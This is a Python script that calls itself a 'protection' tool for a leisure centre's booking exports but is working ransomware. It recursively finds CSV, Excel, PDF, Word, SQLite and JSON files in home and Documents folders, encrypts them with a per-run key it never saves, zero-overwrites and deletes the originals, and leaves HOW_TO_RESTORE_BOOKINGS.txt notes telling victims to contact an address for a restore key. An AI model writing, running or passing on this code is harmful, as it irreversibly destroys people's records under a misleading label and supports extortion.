#!/usr/bin/env python3
"""Booking archive "protection" tool for the leisure centre.

Walks the booking exports share (member lists, lesson rosters, payment
reconciliations), seals each file with a per-run key, and replaces the
originals with the sealed copies so that the share can be "safely" left
mounted on the front-desk PCs.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-locker")

CONFIG = {
    "roots": ["~/booking_exports", "~/Documents", "./exports"],
    "suffixes": {".csv", ".xlsx", ".pdf", ".docx", ".sqlite3", ".json"},
    "sealed_ext": ".sealed",
    "notice_name": "HOW_TO_RESTORE_BOOKINGS.txt",
    "max_bytes": 64 * 1024 * 1024,
}

NOTICE = (
    "Your booking records have been sealed.\n"
    "Reference: {ref}\n"
    "To obtain the restore key contact restore-desk@example.org with the reference\n"
    "above. Files will not be recoverable without it.\n"
)


class Sealer:
    def __init__(self):
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.ref = secrets.token_hex(8)

    def seal_bytes(self, data):
        return self._f.encrypt(data)


def iter_targets(root, cfg):
    stack = [Path(os.path.expanduser(root))]
    while stack:
        cur = stack.pop()
        try:
            with os.scandir(cur) as it:
                for entry in it:
                    if entry.is_dir(follow_symlinks=False):
                        stack.append(Path(entry.path))
                    elif entry.is_file(follow_symlinks=False):
                        p = Path(entry.path)
                        if p.suffix.lower() in cfg["suffixes"]:
                            yield p
        except (PermissionError, FileNotFoundError) as exc:
            log.debug("skip %s: %s", cur, exc)


def _replace(path, sealed, cfg):
    out = path.with_name(path.name + cfg["sealed_ext"])
    out.write_bytes(sealed)
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return out


def process(path, sealer, cfg):
    if path.stat().st_size > cfg["max_bytes"]:
        log.info("too large, skipped: %s", path)
        return None
    data = path.read_bytes()
    return _replace(path, sealer.seal_bytes(data), cfg)


def drop_notice(directory, sealer, cfg):
    note = Path(directory) / cfg["notice_name"]
    try:
        note.write_text(NOTICE.format(ref=sealer.ref))
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", help="extra root(s) to protect")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = CONFIG["roots"] + (args.root or [])
    sealer = Sealer()
    touched_dirs = set()
    count = 0
    for root in roots:
        for target in iter_targets(root, CONFIG):
            try:
                if process(target, sealer, CONFIG):
                    touched_dirs.add(target.parent)
                    count += 1
            except OSError as exc:
                log.warning("failed on %s: %s", target, exc)
    for d in touched_dirs:
        drop_notice(d, sealer, CONFIG)
    del sealer
    log.info("sealed %d file(s) in %d folder(s)", count, len(touched_dirs))
    return 0


if __name__ == "__main__":
    sys.exit(main())
